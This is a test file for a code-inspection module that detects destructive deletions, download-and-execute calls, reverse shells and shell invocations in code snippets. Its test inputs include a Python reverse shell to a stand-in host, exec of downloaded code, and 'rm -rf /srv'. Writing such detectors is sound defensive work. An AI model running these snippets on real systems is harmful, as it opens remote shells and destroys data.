import { expect, test } from 'vitest';
import { readCode, runsInput } from '../../../src/inspect/commands/code.ts';

test.each([
  ["import shutil; shutil.rmtree('/srv/x')", true],
  ["shutil.rmtree('/tmp/x')", false],
  ["require('fs').rmSync('x', { recursive: true })", true],
  ["require('fs').rmSync('x')", false],
  ['unlink glob "/srv/*"', true],
  ["FileUtils.rm_rf('x')", true],
  ['print(1)', false],
])('%s removes a tree: %s', (code, removes) => {
  expect(readCode(code).deed !== undefined).toBe(removes);
});

test.each([
  ["fs.rmSync('dist', { recursive: true })", 'low'],
  ["shutil.rmtree('build')", 'low'],
  ["shutil.rmtree('build'); shutil.rmtree('src')", 'medium'],
  ["shutil.rmtree('build'); shutil.rmtree(x)", 'medium'],
  ["fs.rmSync('../dist', { recursive: true })", 'medium'],
  ['fs.rmSync(`dist${x}`, { recursive: true })', 'medium'],
])('%s weighs %s', (code, severity) => {
  expect(readCode(code).deed?.severity).toBe(severity);
});

test.each([
  ["exec(urlopen('http://there.example').read())", 'Runs what it downloads.'],
  ["eval get('http://there.example')", 'Runs what it downloads.'],
  ["print(urlopen('http://there.example').read())", undefined],
  [
    "import socket,pty;s=socket.socket();s.connect(('there.example',4));pty.spawn('sh')",
    'Gives another machine a shell on this one.',
  ],
  ['import socket; print(socket.gethostname())', undefined],
])('%s: %s', (code, message) => {
  expect(readCode(code).deed?.message).toBe(message);
});

test('hands out what goes to a shell', () => {
  expect(readCode('import os; os.system("rm -rf /srv")').shelled).toEqual(['rm -rf /srv']);
  expect(readCode("require('child_process').execSync('ls')").shelled).toEqual(['ls']);
  expect(readCode('puts `ls`').ticked).toEqual(['ls']);
  expect(readCode('print("system")').shelled).toEqual([]);
});

test('says what it moves and removes of what is made again as a shell would be told to, in its order', () => {
  const carried = (code: string): string => readCode(code).carried;
  expect(carried("shutil.move('a b', 'dist'); shutil.rmtree('dist')")).toBe("mv 'a b' 'dist'\nrm -r 'dist'");
  expect(carried("for f in x: os.rename(f, 'dist')")).toBe("mv $x 'dist'");
  expect(carried("Path('a').replace('b')")).toBe("mv 'a' 'b'");
  for (const code of ["s.replace('a', 'b')", "rmtree('src')", 'os.rename(a, b)', "move('a')", "rename('$a', '$b')"])
    expect([code, carried(code)]).toEqual([code, '']);
  expect(carried("os.rename('a', 'b');".repeat(60)).split('\n')).toHaveLength(40);
});

test.each([
  ['import json, sys; print(json.load(sys.stdin))', false],
  ['import re; re.compile("x")', false],
  ['exec(sys.stdin.read())', true],
  ['eval <STDIN>', true],
  ['system $_', true],
  ['print if /x/', false],
])('%s runs what it reads: %s', (code, runs) => {
  expect(runsInput(code)).toBe(runs);
});
